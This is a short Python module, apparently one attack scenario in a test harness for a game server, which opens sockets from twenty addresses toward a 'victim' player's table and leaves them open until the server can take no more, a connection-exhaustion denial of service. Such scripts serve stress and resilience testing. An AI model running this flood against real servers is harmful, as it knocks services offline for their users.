"""Twenty addresses open sockets at the innocent player's table without a pause, and say hello."""

from __future__ import annotations

from functools import partial

from attacks.target import Target, addresses, hello, together

OPENERS = 100


async def attack(target: Target) -> None:
    """Open sockets and leave them open, until the server takes no more."""

    async def come(address: str) -> None:
        line = await target.socket(target.victim, address)
        target.counts["sockets"] += 1
        await hello(line)

    await together(target.again(partial(come, address)) for address in addresses(OPENERS, 20))
